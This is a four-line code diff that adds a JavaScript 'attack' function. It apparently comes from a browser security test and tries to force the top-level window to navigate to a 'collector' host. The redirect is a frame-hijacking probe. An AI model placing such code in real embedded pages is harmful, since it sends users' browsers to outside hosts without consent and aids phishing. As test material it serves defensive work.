@@ -1,0 +1,4 @@
+const attack = ({ collector }) => {
+  window.top.location = `${collector}/top`;
+  return "tried";
+};
